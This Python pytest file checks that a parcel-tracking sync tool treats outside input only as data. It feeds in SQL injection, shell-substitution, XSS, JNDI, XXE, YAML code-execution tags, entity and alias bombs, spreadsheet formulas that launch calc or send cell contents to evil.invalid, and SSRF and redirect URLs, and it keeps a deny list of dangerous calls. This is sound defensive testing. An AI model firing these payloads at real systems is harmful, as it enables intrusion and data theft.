"""Whatever comes from outside stays data: no SQL, no shell, no other host, no formula, no escape.

Each test prints how many inputs it tried (`pytest -rP tests/edges/test_hostile.py`).
"""

from __future__ import annotations

import ast
import csv
import io
import json
import os
import re
import sqlite3
import sys
import time
import unicodedata
from collections.abc import Callable, Iterator, Sequence
from contextlib import closing, suppress
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from urllib.parse import parse_qsl, quote, unquote
from xml.etree.ElementTree import Element

import httpx
import pytest
import structlog
from click.testing import CliRunner
from defusedxml.ElementTree import fromstring
from hypothesis import HealthCheck, example, given
from hypothesis import settings as tries
from hypothesis import strategies as st

from contract.samples import CARRIERS, make
from passes.world import World, world
from tracker_sync import log
from tracker_sync.cli import main
from tracker_sync.cli.common import Shop
from tracker_sync.errors import CallError, UserError
from tracker_sync.klaviyo.outcome import faults
from tracker_sync.model import Reading
from tracker_sync.plain import logged, plain, plain_json
from tracker_sync.sandbox.http import Response
from tracker_sync.settings import load
from tracker_sync.sources import Bundle, Context, columns, folders, rows
from tracker_sync.sources.csv_folder import CsvConfig, CsvFolder
from tracker_sync.sources.sheet import read
from tracker_sync.wire import Timer, Wire

PACKAGE = Path(__file__).resolve().parents[2] / "tracker_sync"
NOW = datetime(2026, 11, 2, 6, tzinfo=UTC)
BENIGN = "AB12345678"
NUMBERS = (
    *("../../x?y=#", "..", ".", "../..", "/etc/passwd", "//evil.invalid/x", "\\\\evil.invalid\\x"),
    *("%2e%2e", "%2e%2e%2f%2e%2e", "%252e%252e%252f", "..;/admin", "x/../../y", "%00", "\x00"),
    *("?a=b", "a=b&api_key=c", "&trackingNumber=x", "#x", ";x=y", "a;b", "a,b", "a b", "a+b"),
    *("\r\nHost: evil.invalid", "x\r\n\r\nGET / HTTP/1.1", "%0d%0aX: y", "\u2028", "\u560d\u560a"),
    *("@evil.invalid", "x@evil.invalid:80/", ":80", "http://evil.invalid/", "[::1]", "a\tb"),
    *('"}', '","x":"', "\\", "\\u0022", "']", "<x/>", '"/><y z="', "]]>", "<!--", "&lt;", "&x;"),
    *("${jndi:ldap://evil.invalid}", "{{7*7}}", "{number}", "%s%n", "'; DROP TABLE shipments;--"),
    *(
        "é",
        "\uff11\uff12\uff13",
        "\u202e321",
        "😀",
        "x" * 5000,
        "-1",
        "0",
        "null",
        "true",
        "[]",
        "1e999",
    ),
)
PAYLOADS = (
    "'; DROP TABLE shipments; --",
    '" OR 1=1 --',
    "$(touch owned)`touch owned`;touch owned|touch owned",
    "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "\x1b[31mred\x1b]0;title\x07\x1b[2J\x9b31m",
    "\u202eeligro\u202c \u2066a\u2069 \u200fb \u061cc",
    '=HYPERLINK("http://evil.invalid","x")',
    "{{ person.email }} {order_number} %(x)s ${x}",
    "../../../etc/passwd",
    "line\rfeed\x0bform\x0c\x08\x7f\x85",
    "tag\U000e0041 \ufeff \ufff9",
)
every_carrier = pytest.mark.parametrize("key", sorted(CARRIERS))
hostile_texts = st.one_of(
    st.sampled_from([*NUMBERS, *PAYLOADS]),
    st.text(max_size=60),
    st.text("./\\%?#&=;:@\r\n\t\x00\x1b[]{}<>\"'+- aZ09\u202e", max_size=40),
)
timer = Timer(lambda: 0.0, lambda _seconds: None)


pytestmark = pytest.mark.usefixtures("log_as_it_was")


def tell(figure: str) -> None:
    """Print what was tried; `-rP` shows it."""
    sys.stdout.write(f"{figure}\n")


def seen_by_a_terminal(text: str) -> set[str]:
    """What a terminal may obey, or would hide."""
    return {
        f"U+{ord(c):04X}"
        for c in text
        if c not in "\n\t" and unicodedata.category(c) in ("Cc", "Cf", "Cs", "Zl", "Zp")
    }


# -- numbers in requests --------------------------------------------------------------


class Recorder:
    """A transport that keeps what it was asked, and knows nothing."""

    def __init__(self, *, moved_to: str = "") -> None:
        self.requests: list[httpx.Request] = []
        self._moved_to = moved_to

    def __call__(self, request: httpx.Request) -> httpx.Response:
        self.requests.append(request)
        if self._moved_to:
            return httpx.Response(302, headers={"location": self._moved_to})
        return httpx.Response(503)


def asked(key: str, number: str) -> httpx.Request | None:
    """The request as it would leave the machine; None where none can be written."""
    recorder = Recorder()
    wire = Wire(key, timer, transport=httpx.MockTransport(recorder))
    with closing(wire), suppress(CallError, ValueError):
        make(key).poll(wire, [number], "a-token")
    return recorder.requests[0] if recorder.requests else None


def outline(request: httpx.Request) -> tuple[Any, ...]:
    """Everything that decides where a request goes and what it says, the number aside."""
    url = request.url
    return (
        *(request.method, url.scheme, url.host, url.port, url.fragment, url.userinfo),
        sorted(request.headers.keys() - {"content-length"}),
        len(url.raw_path.split(b"?")[0].split(b"/")),
        [name for name, _ in parse_qsl(url.query.decode(), keep_blank_values=True)],
        shape(request.read().decode()),
    )


def shape(body: str) -> Any:
    """The structure of a body: names and nesting without the values."""
    if body.lstrip().startswith("<"):
        return _elements(fromstring(body))
    try:
        return _skeleton(json.loads(body))
    except ValueError:
        return [name for name, _ in parse_qsl(body, keep_blank_values=True)]


def _elements(element: Element) -> tuple[Any, ...]:
    return (element.tag, sorted(element.keys()), [_elements(child) for child in element])


def _skeleton(value: Any) -> Any:
    if isinstance(value, dict):
        return {name: _skeleton(item) for name, item in value.items()}
    return [_skeleton(item) for item in value] if isinstance(value, list) else type(value).__name__


def carried(request: httpx.Request) -> str:
    """Every value a request carries, decoded once, as the other side does it."""
    path, _, query = request.url.raw_path.decode().partition("?")
    values = [value for _, value in parse_qsl(query, keep_blank_values=True)]
    return "\n".join([*map(unquote, path.split("/")), *values, request.read().decode()])


@every_carrier
def test_no_number_changes_where_a_request_goes_or_what_it_asks(key: str) -> None:
    plain_one, count, unwritten = asked(key, BENIGN), 0, 0
    assert plain_one

    @tries(max_examples=150, deadline=None)
    @given(hostile_texts)
    def check(number: str) -> None:
        nonlocal count, unwritten
        request = asked(key, number.encode("utf-8", "ignore").decode() or "x")
        count += 1
        if request is None:
            unwritten += 1
            return
        assert outline(request) == outline(plain_one)
        assert not any(c in value for value in request.headers.values() for c in "\r\n")
        segments = request.url.raw_path.split(b"?")[0].split(b"/")
        assert not {b".", b".."} & {*segments}

    for number in NUMBERS:
        check.hypothesis.inner_test(number)  # type: ignore[attr-defined]
    check()
    tell(f"{key}: {count} numbers tried, {unwritten} refused before any call")


@every_carrier
def test_an_ordinary_number_arrives_as_it_is(key: str) -> None:
    request = asked(key, BENIGN)

    assert request
    assert BENIGN in carried(request)


@every_carrier
@pytest.mark.parametrize(
    "target", ["http://evil.invalid/", "https://evil.invalid/", "//evil.invalid/", "/elsewhere"]
)
def test_no_redirect_is_followed_with_our_keys(key: str, target: str) -> None:
    recorder, carrier = Recorder(moved_to=target), make(key)
    with closing(Wire(key, timer, transport=httpx.MockTransport(recorder))) as wire:
        with pytest.raises(CallError):
            carrier.poll(wire, [BENIGN], "a-token")
        if carrier.token_request():
            with pytest.raises(CallError):
                carrier.fetch_token(wire)

    hosts = {request.url.host for request in recorder.requests}
    assert "evil.invalid" not in hosts
    assert len(recorder.requests) == 1 + bool(carrier.token_request())


@pytest.mark.parametrize(
    ("link", "kept"),
    [
        ("https://carrier.invalid/x", True),
        ("http://carrier.invalid/x", False),
        ("javascript:alert(1)", False),
        (" https://carrier.invalid", False),
        ("data:text/html,x", False),
        ("HTTPS://x", False),
    ],
)
def test_a_carriers_link_for_customers_is_https_or_left_out(link: str, *, kept: bool) -> None:
    assert bool(Reading("1", reroute_url=link).reroute_url) is kept


# -- answers that are bombs --------------------------------------------------------------

DEEP = 200_000
LAUGHS = "".join(f'<!ENTITY l{n} "{f"&l{n - 1};" * 10}">' for n in range(1, 10))
BOMBS = {
    "lists": b"[" * DEEP + b"]" * DEEP,
    "objects": b'{"a":' * DEEP + b"1" + b"}" * DEEP,
    "half lists": b"[" * DEEP,
    "huge number": b'{"errors": ' + b"9" * 1_000_000 + b"}",
    "huge power": b'{"errors": 1e999999999}',
    "not a number": b'{"errors": NaN, "a": Infinity, "b": -Infinity}',
    "half a pair": b'{"errors": "\\ud800"}',
    "laughs": f'<!DOCTYPE x [<!ENTITY l0 "ha">{LAUGHS}]><x>&l9;</x>'.encode(),
    "quadratic": f'<!DOCTYPE x [<!ENTITY a "{"a" * 50_000}">]><x>{"&a;" * 5_000}</x>'.encode(),
    "file": b'<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>',
    "net": b'<!DOCTYPE x [<!ENTITY a SYSTEM "http://127.0.0.1:9/">]><x>&a;</x>',
    "parameter": b'<!DOCTYPE x [<!ENTITY % a SYSTEM "http://127.0.0.1:9/">%a;]><x/>',
    "instruction": b'<?xml-stylesheet href="http://127.0.0.1:9/"?><x/>',
    "inclusion": b'<x xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="/etc/group"/></x>',
    "nul": b'{"a": "\x00"}\x00',
    "utf-7": b"+ADw-script+AD4-",
}


@every_carrier
@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_no_answer_is_a_bomb(key: str, bomb: bytes) -> None:
    carrier, begun = make(key), time.process_time()

    for reader in (carrier.decode_body, _token_of(key)):
        assert "root:" not in str(outcome(lambda read=reader: read(bomb, [BENIGN])))
    assert time.process_time() - begun < 5


def outcome(action: Callable[[], object]) -> object:
    """What came of it; the errors a carrier or a file may make are values."""
    try:
        return action()
    except (CallError, ValueError) as error:
        return error


def _token_of(key: str) -> Callable[[bytes, Sequence[str]], object]:
    """How a carrier takes an answer to its question for a token."""

    def taken(body: bytes, _asked: Sequence[str]) -> object:
        carrier = make(key)
        answers = httpx.MockTransport(lambda _request: httpx.Response(200, content=body))
        with closing(Wire(key, timer, transport=answers)) as wire:
            return carrier.fetch_token(wire) if carrier.token_request() else None

    return taken


@pytest.mark.parametrize("bomb", BOMBS.values(), ids=BOMBS)
def test_no_answer_of_klaviyo_is_a_bomb(bomb: bytes) -> None:
    assert list(faults(httpx.Response(400, content=bomb))) == []


# -- the configuration --------------------------------------------------------------------

ALIASES = "".join(f"a{n}: &a{n} [{', '.join([f'*a{n - 1}'] * 9)}]\n" for n in range(1, 12))
YAMLS = {
    "aliases": f"a0: &a0 [lol]\n{ALIASES}",
    "keys of aliases": f"a0: &a0 {{b: c}}\n{ALIASES}",
    "itself": "shop: &a [*a]",
    "merge of itself": "shop: &a {<<: *a}",
    "deep lists": "[" * 90_000,
    "deep maps": "{a: " * 40_000,
    "deep blocks": "\n".join(" " * n + "a:" for n in range(600)),
    "deep dashes": "- " * 90_000,
    "questions": "? " * 90_000,
    "python": "shop: !!python/object/apply:os.system ['touch owned']",
    "name": "shop: !!python/name:os.system",
    "binary": "shop: {id: !!binary aGFsbG8=}",
    "own tag": "!<tag:evil.invalid,2026:x> {shop: {id: a}}",
    "directive": "%TAG ! tag:evil.invalid,2026:\n---\nshop: !x {id: a}",
    "two documents": "shop: {id: a}\n---\nshop: {id: b}",
    "long line": "shop: {id: " + "x" * 190_000 + "}",
    "big number": "shop: {id: a}\nmessages: {max_per_recipient: " + "9" * 5_000 + "}",
    "escape": 'shop: {id: "\\x1b[31m"}',
    "nul": "shop: {id: \0}",
    "half a pair": 'shop: {id: "\\ud800", name: "\\udfff"}',
    "bidi": "shop: {id: \u202eabc}\nmess\u202eages: {}",
}


@pytest.mark.parametrize("text", YAMLS.values(), ids=YAMLS)
def test_no_configuration_is_a_bomb(tmp_path: Path, text: str) -> None:
    path, begun = tmp_path / "shop.yaml", time.process_time()
    path.write_bytes(text.encode("utf-8", "surrogatepass"))

    with pytest.raises(UserError) as told:
        load(path, environ={})

    assert re.search(r"shop\.yaml", str(told.value))
    assert time.process_time() - begun < 10
    assert not (tmp_path / "owned").exists()


def _yaml(key: str, url: str) -> str:
    if key == "klaviyo":
        return f"klaviyo:\n  private_key: pk_1\n  base_url: {json.dumps(url)}\n"
    model = CARRIERS[key].Config.model_fields
    keys = "".join(f"    {name}: x-{name}\n" for name, f in model.items() if f.is_required())
    return f"carriers:\n  {key}:\n{keys}    base_url: {json.dumps(url)}\n"


OPEN = (
    *("http://api.carrier.invalid", "http://10.0.0.5:8080", "http://localhost.evil.invalid"),
    *("http://127.0.0.1@evil.invalid", "http://127.0.0.1.evil.invalid", "http://0x7f000001x/"),
    *("ftp://127.0.0.1", "file:///etc/passwd", "//evil.invalid", "evil.invalid", "http://"),
    *("javascript:x", "http:127.0.0.1", "http://[::1", "https://", "http://0.0.0.0"),
)
SAFE = ("https://proxy.invalid:8443", "http://127.0.0.1:8080", "http://[::1]:9", "http://localhost")


@pytest.mark.parametrize("key", [*sorted(CARRIERS), "klaviyo"])
def test_calls_go_over_tls_or_stay_on_this_machine(tmp_path: Path, key: str) -> None:
    path = tmp_path / "shop.yaml"
    for url in OPEN:
        path.write_text("shop: {id: a, name: A, timezone: UTC}\n" + _yaml(key, url))
        with pytest.raises(UserError) as told:
            load(path, environ={})
        line = 1 + len(path.read_text().splitlines()) - 1
        where = "klaviyo" if key == "klaviyo" else f"carriers.{key}"
        assert f"shop.yaml:{line}: {where}.base_url must " in str(told.value), url
        assert "evil.invalid" not in str(told.value)
    for url in SAFE:
        path.write_text("shop: {id: a, name: A, timezone: UTC}\n" + _yaml(key, url))
        load(path, environ={})
    tell(f"{key}: {len(OPEN)} addresses refused, {len(SAFE)} taken")


# -- files ---------------------------------------------------------------------------------

HOUSE = rows.House("Europe/Berlin", "DE", enclosed=False)
TITLES = ("tracking_number", "courier", "email", "order_id", "items", "prop_Gift", "corrects")
cells = st.one_of(hostile_texts, st.sampled_from([BENIGN, "ups", "a@shop.invalid", "2x Shirt"]))


@tries(max_examples=400, deadline=None)
@given(st.lists(st.lists(cells, min_size=len(TITLES), max_size=len(TITLES)), max_size=6))
def test_no_cell_gets_further_than_its_column_allows(table: list[list[str]]) -> None:
    text = io.StringIO()
    csv.writer(text, delimiter=";").writerows([TITLES, *table])
    content = text.getvalue().encode("utf-8", "replace").replace(b"\0", b"")

    bundle = rows.bundle(Bundle("x.csv", "", ()), read(content), HOUSE)

    for advice in bundle.advices:
        assert re.fullmatch(r"[A-Z0-9]{6,40}", advice.number)
        assert not advice.replaces or re.fullmatch(r"[A-Z0-9]{6,40}", advice.replaces)
        assert re.fullmatch(r"([^@\s]+@[^@\s]+)?", advice.recipient.email)
        texts = (
            advice.order,
            advice.courier,
            *advice.properties.values(),
            *(item.name for item in advice.items),
        )
        assert not any(
            re.search("[\x00-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]", t) for t in texts
        )
    for reject in (*bundle.rejects, *bundle.notes):
        assert "a@shop.invalid" not in reject.why


@tries(max_examples=300, deadline=None)
@given(st.binary(max_size=300), st.sampled_from(["auto", "utf-8", "cp1252", "utf-16", "utf-7"]))
@example(b"tracking_number\n" + b'"' * 200_000, "auto")
@example(b"\xff\xfe" + "tracking_number\n\0\0\n".encode("utf-16-le"), "auto")
@example(b"sep=\x00\ntracking_number\nAB12345678", "utf-8")
@example(b"tracking_number,order_id\nAB12345678,+2AA-\n", "utf-7")
def test_no_file_breaks_the_reader(content: bytes, encoding: str) -> None:
    found = outcome(lambda: rows.bundle(Bundle("x.csv", "", ()), read(content, encoding), HOUSE))

    for advice in found.advices if isinstance(found, Bundle) else ():
        json.dumps(advice.order, ensure_ascii=False).encode()


FORMULA = re.compile(r"^\s*[=+\-@\uff0b\uff0d\uff1d\uff20]")
DANGEROUS = (
    *(
        "=1+1",
        "+1",
        "-1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        " =1",
        '="0034"',
        "=cmd|' /C calc'!A0",
    ),
    *(
        "a;=1",
        "a,=1",
        "a\t=1",
        "a|+1",
        'a"=1',
        '";=1',
        "\uff1d1",
        "\uff0b1",
        "\uff0d1",
        "\uff20x",
        "'=1",
        "a\r\n=1",
    ),
    *("-2+3+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.invalid?"&A1)', "%0A=1", "\u200b=1"),
)


@tries(max_examples=300, deadline=None)
@given(
    st.lists(
        st.one_of(st.sampled_from(DANGEROUS), st.text("=+-@;,\t|\r\n\"' aA1\uff1d", max_size=12)),
        min_size=2,
        max_size=2,
    ),
    st.sampled_from(";,\t|"),
)
def test_no_file_we_write_holds_a_formula(pair: list[str], delimiter: str) -> None:
    """Whichever sign the spreadsheet that opens it takes for the delimiter."""
    text = io.StringIO()
    csv.writer(text, delimiter=delimiter).writerows([("tracking_number", "order_id"), pair])
    try:
        sheet = read(text.getvalue().encode())
    except ValueError:
        return

    written = folders.rejected(sheet, {row.line: "why" for row in sheet.rows}).decode("utf-8-sig")

    for sign in ";,\t|":
        for line in csv.reader(re.split("[\r\n]+", written), delimiter=sign):
            assert not [cell for cell in line if FORMULA.search(cell)]


@given(st.text(st.characters(exclude_characters=';,\t|\r\n"\0'), max_size=30))
@example("=1+1")
@example("+49 170 0000001")
@example('="00340434161094042557"')
def test_a_cell_made_harmless_is_read_as_before(cell: str) -> None:
    assert columns.text(folders.harmless(cell)) == columns.text(cell)


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    (tmp_path / "inbox").mkdir()
    return tmp_path / "inbox"


def opened(inbox: Path) -> CsvFolder:
    context = Context(inbox.parent, "Europe/Berlin", "DE", NOW)
    return CsvFolder(CsvConfig(path="inbox/*.csv"), context)


def test_a_link_in_the_inbox_shows_no_other_file(inbox: Path) -> None:
    secret = inbox.parent / "shop.yaml"
    secret.write_text("tracking_number\nprivate_key pk_secret\n")
    (inbox / "a.csv").symlink_to(secret)
    (inbox / "b.csv").write_text(f"tracking_number\n{BENIGN}\n")
    found: list[Bundle] = []

    with pytest.raises(UserError, match="this is a link; put the file itself there"):
        found.extend(opened(inbox).fetch(()))

    assert [bundle.name for bundle in found] == ["inbox/b.csv"]


def test_of_an_endless_file_no_more_is_read_than_shows_it(inbox: Path) -> None:
    with (inbox / "a.csv").open("wb") as file:
        os.truncate(file.fileno(), 20_000_000_000)
    source = opened(inbox)
    (bundle,) = source.fetch(())
    source.done(bundle, ())

    assert "larger than 50 MB" in bundle.rejects[0].why
    assert (inbox / "rejected" / "a.csv").exists()


@pytest.mark.parametrize("name", ["hex", "zlib", "bz2", "rot13", "nothing", "base64", "uu"])
def test_a_codec_that_is_no_text_is_no_encoding(name: str) -> None:
    with pytest.raises(ValueError, match="not a known encoding"):
        CsvConfig(path="inbox", encoding=name)


# -- what a person sees -----------------------------------------------------------------------


@tries(max_examples=500)
@given(hostile_texts)
def test_nothing_shown_steers_a_terminal(text: str) -> None:
    assert not seen_by_a_terminal(plain(text))
    assert not seen_by_a_terminal(plain_json(json.dumps({text: text}, ensure_ascii=False)))
    assert json.loads(plain_json(json.dumps({text: text}, ensure_ascii=False))) == {text: text}
    assert not re.search(
        "[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u202a-\u202e\u2066-\u2069]", logged(text)
    )


@tries(max_examples=200, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(hostile_texts)
def test_a_text_is_one_line_of_the_log(capsys: pytest.CaptureFixture[str], text: str) -> None:
    for as_json in (True, False):
        log.configure(lambda: NOW, json=as_json)
        capsys.readouterr()
        structlog.get_logger().warning("text.met", text=text)
        line = capsys.readouterr().err

        assert line.count("\n") == 1
        assert not seen_by_a_terminal(line) - {"U+200C", "U+200D", "U+00AD"}


@pytest.fixture
def hostile(tmp_path: Path) -> Iterator[World]:
    """A shop whose feed and carrier write everything they should not."""
    with world(tmp_path) as shop:
        shop.run("0h")
        header = "tracking_number,courier,email,order_id,items,language,prop_Gift,order_path"
        with (shop.folder / "inbox" / "\x1b[31mred\u202e.csv").open("w", newline="") as file:
            writer = csv.writer(file)
            writer.writerow(header.split(","))
            for n, payload in enumerate(PAYLOADS):
                person = f"c{n}@shop.example"
                writer.writerow(
                    [number(n), "ups", person, payload, payload, payload, payload, payload]
                )
                writer.writerow([payload, payload, person, payload, "", "", "", ""])
        shop.carrier_faults = lambda _carrier, _call: answer(shop)
        shop.run("3h")
        yield shop


def number(n: int) -> str:
    return f"1Z999AA1012345{n:04}"


def answer(shop: World) -> Response:
    """UPS in other people's words: every text of the answer is a payload."""
    mine = shop.asked.rsplit("/", 1)[1].split(" ")[0]
    payload = PAYLOADS[int(mine[-4:])]
    activities = [
        {
            "location": {"address": {"city": payload, "countryCode": payload}},
            "status": {"type": kind, "code": code, "statusCode": status, "description": payload},
            "date": "20261102",
            "time": f"0{hour}0000",
            "gmtDate": "20261102",
            "gmtOffset": "+00:00",
            "gmtTime": f"0{hour}:00:00",
        }
        for kind, code, status, hour in [("X", payload, payload, 8), ("P", "PU", "038", 7)]
    ]
    package = {"trackingNumber": mine, "activity": activities, "service": {"description": payload}}
    found = {"trackResponse": {"shipment": [{"inquiryNumber": mine, "package": [package]}]}}
    return Response(200, {"content-type": "application/json"}, json.dumps(found).encode())


COMMANDS = (
    *(["status"], ["status", "--json"], ["status", "--health"], ["check"], ["check", "--json"]),
    *(["messages", "list"], ["messages", "list", "--json"], ["carriers"], ["carriers", "--json"]),
    *(["codes"], ["codes", "--json"], ["sync", "--dry-run"], ["sync", "--dry-run", "--json"]),
    *(["--verbose", "sync"], ["events"]),
)


def test_a_hostile_feed_and_carrier_reach_neither_terminal_nor_tables(hostile: World) -> None:
    folder = hostile.folder
    shown = [
        *COMMANDS,
        *(["explain", number(n), *more] for n in range(len(PAYLOADS)) for more in ([], ["--json"])),
        *(["explain", payload] for payload in PAYLOADS),
        *(["add", payload, "--courier", payload, "--order", payload] for payload in PAYLOADS),
        *(["sync", "--accept", payload] for payload in PAYLOADS),
        *(["messages", "drop", payload] for payload in PAYLOADS),
        *(["read", payload, str(folder / "shop.yaml")] for payload in PAYLOADS),
    ]
    for command in shown:
        words = [word for word in command if "\0" not in word]
        result = CliRunner().invoke(
            main, ["--config", str(folder / "shop.yaml"), *words], obj=Shop(moment=hostile.now)
        )
        assert result.exception is None or isinstance(result.exception, SystemExit), command
        assert not seen_by_a_terminal(result.output), command
        if "--json" in command:
            json.loads(result.stdout)

    tables = {row["name"] for row in hostile.rows("SELECT name FROM sqlite_master")}
    assert {"shipments", "orders", "messages"} <= tables
    assert len(hostile.rows("SELECT * FROM shipments")) == len(PAYLOADS)
    assert PAYLOADS[1] in {row["reference"] for row in hostile.rows("SELECT * FROM orders")}
    assert not list(folder.rglob("owned"))
    assert len(hostile.events()) == len(PAYLOADS)
    tell(f"{len(shown)} commands over {len(PAYLOADS)} payloads in every cell and every answer")


def test_a_link_holds_a_hostile_order_as_one_value(tmp_path: Path) -> None:
    wishes = (
        "messages: {links: {tracking_page: 'https://shop.invalid/t?o={order_number}&x=1'}}\n"
        "follow_ups: {review_request: {basis: existing_customer}}\n"
    )
    with world(tmp_path, wishes=wishes) as shop:
        shop.run("0h")
        path = shop.csv(f"{number(0)};ups;a@shop.example;X")
        path.write_text(path.read_text().replace(";X", ";../?a=b&c={order_id}#d"))
        shop.parcel(number(0), "dispatched 2h")
        shop.run("3h")
        (event,) = shop.events()

    link = f"https://shop.invalid/t?o={quote('../?a=b&c={order_id}#d', safe='')}&x=1"
    assert event.properties["TrackingPageURL"] == link


# -- what is not there --------------------------------------------------------------------------

NEVER = {
    *("subprocess", "pickle", "marshal", "shelve", "pty", "commands", "ctypes", "dill"),
    *("os.system", "os.popen", "os.execv", "os.spawnv", "os.startfile", "yaml.load"),
    *("yaml.unsafe_load", "yaml.full_load", "tempfile.mktemp", "webbrowser"),
}
NEVER_CALLED = {"eval", "exec", "compile", "__import__"}
NEVER_GIVEN = {("verify", False), ("follow_redirects", True), ("shell", True), ("markup", True)}


def test_no_code_runs_what_it_is_given_or_trusts_any_certificate() -> None:
    files, found = list(PACKAGE.rglob("*.py")), []
    for path in files:
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            found += [(path.name, fault) for fault in _faults(node)]

    assert found == []
    tell(f"{len(files)} files read")


def _faults(node: ast.AST) -> Iterator[str]:
    if isinstance(node, ast.Import):
        yield from (alias.name for alias in node.names if alias.name in NEVER)
    if isinstance(node, ast.ImportFrom) and node.module in NEVER:
        yield node.module
    if isinstance(node, ast.Attribute) and ast.unparse(node) in NEVER:
        yield ast.unparse(node)
    if isinstance(node, ast.Call):
        if isinstance(node.func, ast.Name) and node.func.id in NEVER_CALLED:
            yield node.func.id
        for given_ in node.keywords:
            if isinstance(given_.value, ast.Constant):
                pair = (given_.arg, given_.value.value)
                yield from [f"{pair}"] if pair in NEVER_GIVEN else []


def test_a_text_of_sql_is_a_value(tmp_path: Path) -> None:
    """The store binds what it is given; nothing of it is ever part of a statement."""
    from tracker_sync.store import Store

    texts = [*PAYLOADS, *NUMBERS]
    with closing(Store(tmp_path / "x.db", shop="a", zones={})) as store:
        for text in texts:
            with store.transaction():
                order = store.orders.add(text, text)
                store.orders.describe(order.id, shop_id=text, parcel_count=None)
                store.journal.finding(f"x:{text}", text, NOW)
            found = store.orders.find(text)
            assert found
            assert (found.reference, found.order_id) == (text, text)
            assert f"x:{text}" in store.journal.open_keys("x:")
            assert store.shipments.by_number(text) == []
            assert store.announced.parcels([text], NOW) == []
            store.glance.near(text, 3)
    with closing(sqlite3.connect(tmp_path / "x.db")) as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)
        assert db.execute("SELECT count(*) FROM orders").fetchone() == (len(texts),)
    tell(f"{len(texts)} texts bound")
